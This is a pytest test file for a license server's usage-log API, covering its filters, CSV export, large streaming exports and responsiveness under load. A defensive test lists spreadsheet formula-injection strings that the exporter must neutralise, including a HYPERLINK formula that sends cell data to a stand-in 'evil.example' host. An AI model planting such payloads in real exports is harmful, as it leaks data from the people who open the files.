"""The usage log: its filters and its CSV export."""

from __future__ import annotations

import csv
import io
import re
import time
from datetime import datetime

import pytest
from api_support import assert_error, assert_log_clean, install_ok, usage

CSV_HEADER = [
    "id",
    "at",
    "kind",
    "granted",
    "reason",
    "product",
    "license_id",
    "printer_id",
    "printer_name",
    "lease_id",
    "client_host",
    "client_user",
    "application",
    "source_ip",
    "server",
    "count",  # requests the row stands for: a client's repeated refusals share one row
]
ISO_MILLISECONDS = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z")


@pytest.fixture
def logged(server, issuer):
    """A server whose usage log holds print checks, a refusal, a checkout and a checkin, in that order."""
    with server.admin() as admin:
        install_ok(admin, issuer.license_bytes(license_id="PRN", unit="printers"))
        install_ok(admin, issuer.license_bytes(license_id="SEAT", unit="seats"))
        ids = {}

        def act(method, path, **body):
            answer = admin.request(method, path, json=body or None)
            time.sleep(0.01)  # distinct timestamps for the since/until filters
            return answer

        ids["a"] = act(
            "POST",
            "/api/v1/print-checks",
            product="LabelStudio",
            printer={"name": 'Front, "A"'},
            client={"host": "ws-1", "user": "ann"},
        ).json()["printer_id"]
        ids["b"] = act(
            "POST",
            "/api/v1/print-checks",
            product="LabelStudio",
            printer={"name": "Back"},
            client={"host": "ws-2", "user": "bob"},
        ).json()["printer_id"]
        act("POST", "/api/v1/print-checks", product="Missing", printer={"name": "Back"}, client={"host": "ws-2"})
        lease = act("POST", "/api/v1/leases", product="LabelStudio", client={"host": "ws-1"}).json()
        act("DELETE", f"/api/v1/leases/{lease['lease_id']}")
        ids["lease"] = lease["lease_id"]
        yield admin, ids


def test_usage_log_lists_every_decision_newest_first(logged):
    admin, ids = logged
    records = usage(admin)
    assert [(r["kind"], r["granted"], r["reason"]) for r in records] == [
        ("checkin", True, "ok"),
        ("checkout", True, "ok"),
        ("print", False, "no_license"),
        ("print", True, "ok"),
        ("print", True, "ok"),
    ]
    ids_desc = [r["id"] for r in records]
    assert ids_desc == sorted(ids_desc, reverse=True)
    assert records[-1]["printer_name"] == 'Front, "A"' and records[-1]["license_id"] == "PRN"
    assert records[1]["lease_id"] == ids["lease"]


def test_usage_filters_select_matching_records(logged):
    admin, ids = logged
    failed = usage(admin, failed_only="true")
    assert [(r["kind"], r["product"]) for r in failed] == [("print", "Missing")]
    assert len(usage(admin, failed_only="false")) == 5
    assert {r["kind"] for r in usage(admin, kind="checkout")} == {"checkout"}
    assert [r["printer_name"] for r in usage(admin, printer_id=ids["a"])] == ['Front, "A"']
    assert [r["reason"] for r in usage(admin, printer_id=ids["b"])] == ["no_license", "ok"]
    assert [r["kind"] for r in usage(admin, client_host="ws-2")] == ["print", "print"]
    assert [r["kind"] for r in usage(admin, client_host="ws-2", failed_only=1)] == ["print"]
    assert usage(admin, client_host="nobody") == []


def test_usage_since_until_and_limit_filters(logged):
    admin, _ = logged
    records = usage(admin)
    times = [r["at"] for r in reversed(records)]  # oldest first
    since = usage(admin, since=times[2])
    assert [r["id"] for r in since] == [r["id"] for r in records[:3]]
    until = usage(admin, until=times[2])  # until is exclusive
    assert [r["id"] for r in until] == [r["id"] for r in records[3:]]
    window = usage(admin, since=times[1], until=times[3])
    assert [r["id"] for r in window] == [records[2]["id"], records[3]["id"]]
    limited = usage(admin, limit=2)
    assert [r["id"] for r in limited] == [r["id"] for r in records[:2]]
    paged = usage(admin, limit=2, offset=2)
    assert [r["id"] for r in paged] == [r["id"] for r in records[2:4]]
    assert usage(admin, since=time.time() + 60) == []


@pytest.mark.parametrize(
    "params",
    [
        {"limit": 0},
        {"limit": 100_001},
        {"offset": -1},
        {"offset": 10**19},  # fits no SQLite integer
        {"offset": 10**20},
        {"limit": "many"},
        {"failed_only": "perhaps"},
        {"since": "yesterday"},
        {"until": "1e400"},
        {"colour": "red"},
    ],
)
def test_bad_usage_filters_are_refused(shared_server, shared_admin, params):
    admin = shared_admin
    error = assert_error(admin.get("/api/v1/admin/usage", params=params), 422, "invalid_request")
    assert next(iter(params)) in error["message"]
    assert_error(admin.get("/api/v1/admin/usage.csv", params=params), 422, "invalid_request")
    assert_log_clean(shared_server)


def test_usage_csv_export_has_the_header_and_one_row_per_record(logged):
    admin, _ = logged
    answer = admin.get("/api/v1/admin/usage.csv")
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    assert "attachment" in answer.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(answer.text)))
    assert rows[0] == CSV_HEADER
    records = usage(admin)
    assert len(rows) == 1 + len(records)
    by_column = [dict(zip(CSV_HEADER, row, strict=True)) for row in rows[1:]]
    assert [int(row["id"]) for row in by_column] == [r["id"] for r in records]
    assert [row["kind"] for row in by_column] == [r["kind"] for r in records]
    assert by_column[-1]["printer_name"] == 'Front, "A"'  # commas and quotes survive the round trip
    assert all(ISO_MILLISECONDS.fullmatch(row["at"]) for row in by_column), by_column
    exported = datetime.strptime(by_column[0]["at"], "%Y-%m-%dT%H:%M:%S.%f%z").timestamp()
    assert exported == pytest.approx(records[0]["at"], abs=0.001)


def test_usage_csv_export_applies_the_filters(logged):
    admin, _ = logged
    rows = list(csv.DictReader(io.StringIO(admin.get("/api/v1/admin/usage.csv?failed_only=true").text)))
    assert [(row["kind"], row["reason"]) for row in rows] == [("print", "no_license")]
    rows = list(csv.DictReader(io.StringIO(admin.get("/api/v1/admin/usage.csv?kind=checkin&limit=1").text)))
    assert len(rows) == 1 and rows[0]["kind"] == "checkin"


def test_usage_csv_of_an_empty_log_is_just_the_header(admin):
    answer = admin.get("/api/v1/admin/usage.csv")
    assert answer.status_code == 200
    assert list(csv.reader(io.StringIO(answer.text))) == [CSV_HEADER]


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-3+4", "@SUM(A1:A9)", "\tindented", "\rreturn"]


def test_usage_csv_neutralises_names_a_spreadsheet_would_run_as_formulas(server, issuer):
    with server.admin() as admin:
        install_ok(admin, issuer.license_bytes(license_id="PRN", unit="printers", count=20))
        for text in [*FORMULAS, "Zebra - Hall 2"]:
            answer = admin.post(
                "/api/v1/print-checks",
                json={"product": "LabelStudio", "printer": {"name": text}, "client": {"host": text, "user": text}},
            )
            assert answer.status_code == 200, answer.text
        rows = list(csv.DictReader(io.StringIO(admin.get("/api/v1/admin/usage.csv").text)))
    by_name = {row["printer_name"]: row for row in rows}
    for text in FORMULAS:
        row = by_name["'" + text]
        assert row["client_host"] == row["client_user"] == "'" + text
    assert by_name["Zebra - Hall 2"]["client_host"] == "Zebra - Hall 2"
    assert not any(value[:1] in "=+-@\t\r" and value for row in rows for value in row.values())


@pytest.mark.parametrize("text", [*FORMULAS, "\uff1dSUM(A1)", "\uff20x"])
def test_csv_cells_a_spreadsheet_would_run_are_text_and_the_rest_is_untouched(text):
    from licentia.api.csv_export import spreadsheet_text

    assert spreadsheet_text(text) == "'" + text
    for value in ("Zebra-1", "a=b", "", 42, -1.5, True, "'quoted"):
        assert spreadsheet_text(value) == value


BULK_ROWS = 100_050


@pytest.fixture(scope="module")
def bulk_log(tmp_path_factory, shared_issuer):
    """A server whose usage log holds BULK_ROWS refused print checks, one a second up to now, written in
    bulk past its usage rollups (the server builds them on start); and their first time."""
    import sqlite3

    from harness import ServerProcess

    from licentia.store.usage_rows import USAGE_FIELDS

    data = tmp_path_factory.mktemp("bulk") / "server"
    shared_issuer.trust_in(data)
    ServerProcess(data).start().stop()
    columns = ("origin", "idx", "seq", *USAGE_FIELDS)
    record = {"kind": "print", "granted": 0, "reason": "no_license", "printer_name": "=cmd", "count": 1}
    start = round(time.time()) - BULK_ROWS  # recent: the retention period keeps them
    with sqlite3.connect(data / "licentia.db") as conn:
        conn.execute("DELETE FROM meta WHERE key LIKE 'usage_rollup_%'")  # rows written past them: built anew
        conn.executemany(
            f"INSERT INTO usage ({', '.join(columns)}) VALUES ({', '.join('?' * len(columns))})",
            (("bulk", n, 0, *({**record, "at": start + n}.get(f, "") for f in USAGE_FIELDS))
             for n in range(BULK_ROWS)),
        )
    server = ServerProcess(data).start()
    try:
        yield server, start
    finally:
        server.kill()


def test_usage_csv_export_streams_every_row_past_a_hundred_thousand(bulk_log):
    """No silent cut-off: an export without a limit has every row of the log, oldest id last."""
    server, start = bulk_log
    rows = BULK_ROWS
    with server.admin() as admin:
        answer = admin.get("/api/v1/admin/usage.csv", timeout=120)
        assert answer.status_code == 200
        exported = list(csv.reader(io.StringIO(answer.text)))
        assert exported[0] == CSV_HEADER
        assert len(exported) == 1 + rows
        first = dict(zip(CSV_HEADER, exported[1], strict=True))
        last = dict(zip(CSV_HEADER, exported[-1], strict=True))
        assert int(first["id"]) > int(last["id"])  # newest first, as before
        assert ISO_MILLISECONDS.fullmatch(last["at"]) and last["printer_name"] == "'=cmd"
        oldest = datetime.strptime(last["at"], "%Y-%m-%dT%H:%M:%S.%f%z").timestamp()
        assert oldest == start
        limited = list(csv.reader(io.StringIO(admin.get("/api/v1/admin/usage.csv?limit=3&offset=1").text)))
        assert [row[0] for row in limited[1:]] == [row[0] for row in exported[2:5]]
        in_range = admin.get("/api/v1/admin/usage.csv", params={"since": start + 10, "until": start + 90_010},
                             timeout=120)
        assert len(list(csv.reader(io.StringIO(in_range.text)))) == 1 + 90_000


def test_a_client_is_answered_while_every_row_is_exported_and_reported(bulk_log):
    """Heavy reads run off the event loop: while the usage log's 100,000 rows are exported as CSV (twice at
    once) and reported on, a probe asking /health/live every 10 ms is answered within a few hundred ms."""
    import threading
    from concurrent.futures import ThreadPoolExecutor

    import httpx

    server, start = bulk_log
    latencies: list[float] = []
    done = threading.Event()

    def probe() -> None:
        with httpx.Client(base_url=server.url, timeout=10) as client:
            while not done.is_set():
                started = time.perf_counter()
                assert client.get("/health/live").status_code == 200
                latencies.append(time.perf_counter() - started)
                done.wait(0.01)

    def export() -> None:
        with server.admin() as admin:
            answer = admin.get("/api/v1/admin/usage.csv", timeout=120)
            assert answer.status_code == 200 and answer.text.count("\n") == 1 + BULK_ROWS

    def report() -> None:
        with server.admin() as admin:
            ranges = (("hour", start + 0.5, BULK_ROWS - 1), ("day", start - 86400 + 1234.5, BULK_ROWS))
            for bucket, since, refused in ranges:
                answer = admin.get("/api/v1/admin/reports/usage", params={"bucket": bucket, "since": since},
                                   timeout=120)
                assert answer.status_code == 200
                assert sum(b["denials_total"] for b in answer.json()["buckets"]) == refused

    with ThreadPoolExecutor(4) as pool:
        prober = pool.submit(probe)
        readers = [pool.submit(work) for work in (export, export, report)]
        try:
            for reader in readers:
                reader.result(timeout=120)
        finally:
            done.set()
        prober.result(timeout=10)
    assert len(latencies) > 20
    assert max(latencies) < 0.5, f"the slowest probe took {max(latencies) * 1000:.0f} ms"
